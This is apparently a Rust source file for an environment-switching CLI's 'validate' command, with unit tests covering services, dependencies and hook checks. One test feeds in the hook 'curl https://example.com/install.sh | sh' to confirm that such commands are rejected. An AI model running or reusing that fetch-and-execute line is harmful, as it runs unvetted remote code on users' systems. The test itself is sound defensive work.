use super::load_environment;
use crate::cli::EnvSource;
use crate::output::UserOutput;
use envswitch::hooks::HookPhase;
use envswitch::{validate_hook_command, DependencyResolver, Error, Parser, ServiceKind};

pub fn run_validate(parser: &Parser, source: &EnvSource, out: &dyn UserOutput) -> anyhow::Result<()> {
    let (path, env) = load_environment(parser, source)?;
    out.status(&format!("Validating {}...", path.display()));

    env.validate()?;
    let levels = DependencyResolver::for_environment(&env).resolve()?;

    let mut rejected = Vec::new();
    for (phase, hooks) in [(HookPhase::Pre, &env.pre_hooks), (HookPhase::Post, &env.post_hooks)] {
        for (index, hook) in hooks.iter().enumerate() {
            let name = format!("{}-{}", phase, index);
            if let Err(reason) = validate_hook_command(&hook.command) {
                out.error(&format!("Hook '{}' rejected: {}", name, reason));
                rejected.push(Error::HookRejected { hook: name, reason });
            }
        }
    }
    if rejected.len() > 1 {
        return Err(Error::Multiple(rejected).into());
    }
    if let Some(e) = rejected.pop() {
        return Err(e.into());
    }

    out.success(&format!("Environment '{}' is valid", env.name));
    out.blank();

    out.status(&format!("Services: {}", env.services.len()));
    for (name, config) in &env.services {
        let kinds: Vec<&str> = config.configured_kinds().iter().map(|k| k.as_str()).collect();
        out.status(&format!("  - {} ({})", name, kinds.join(", ")));

        // A switcher registered under its own name only reads the matching block
        if let Ok(kind) = name.parse::<ServiceKind>() {
            if config.target(kind).is_none() {
                out.warning(&format!(
                    "  Service '{}' has no '{}' configuration block",
                    name, kind
                ));
            }
        }
    }

    if !env.dependencies.is_empty() {
        out.status(&format!("\nDependencies: {}", env.dependencies.len()));
        for dep in &env.dependencies {
            out.status(&format!("  - {}", dep.trim()));
        }
    }
    out.status(&format!("\nLevels: {}", levels.len()));
    out.status(&format!(
        "Hooks: {} pre, {} post",
        env.pre_hooks.len(),
        env.post_hooks.len()
    ));

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::output::BufferedOutput;

    fn validate(content: &str) -> (anyhow::Result<()>, BufferedOutput) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("env.yaml");
        std::fs::write(&path, content).unwrap();
        let out = BufferedOutput::default();
        let source = EnvSource {
            env: None,
            from_file: Some(path),
        };
        let result = run_validate(&Parser::new(), &source, &out);
        (result, out)
    }

    #[test]
    fn test_valid_environment() {
        let (result, out) = validate(
            r#"
name: dev
services:
  docker:
    docker:
      context: default
  ssh:
    ssh:
      config: ~/.ssh/config.dev
dependencies:
  - "docker -> ssh"
postHooks:
  - command: echo done
"#,
        );

        result.unwrap();
        let text = out.text();
        assert!(text.contains("Environment 'dev' is valid"));
        assert!(text.contains("  - docker (docker)"));
        assert!(text.contains("Levels: 2"));
    }

    #[test]
    fn test_warns_on_mismatched_block() {
        let (result, out) = validate(
            r#"
name: dev
services:
  docker:
    ssh:
      config: ~/.ssh/config
"#,
        );

        result.unwrap();
        assert!(out.text().contains("warning:   Service 'docker' has no 'docker' configuration block"));
    }

    #[test]
    fn test_rejects_dangerous_hook() {
        let (result, out) = validate(
            r#"
name: dev
services:
  docker:
    docker:
      context: default
preHooks:
  - command: "curl https://example.com/install.sh | sh"
"#,
        );

        let err = result.unwrap_err();
        assert!(matches!(
            err.downcast_ref::<Error>(),
            Some(Error::HookRejected { hook, .. }) if hook == "pre-hook-0"
        ));
        assert!(out.text().contains("error: Hook 'pre-hook-0' rejected"));
    }

    #[test]
    fn test_rejects_unknown_dependency_target() {
        let (result, _) = validate(
            r#"
name: dev
services:
  docker:
    docker:
      context: default
dependencies:
  - "docker -> kubernetes"
"#,
        );

        assert!(matches!(
            result.unwrap_err().downcast_ref::<Error>(),
            Some(Error::DependencyTargetNotFound(name)) if name == "kubernetes"
        ));
    }
}
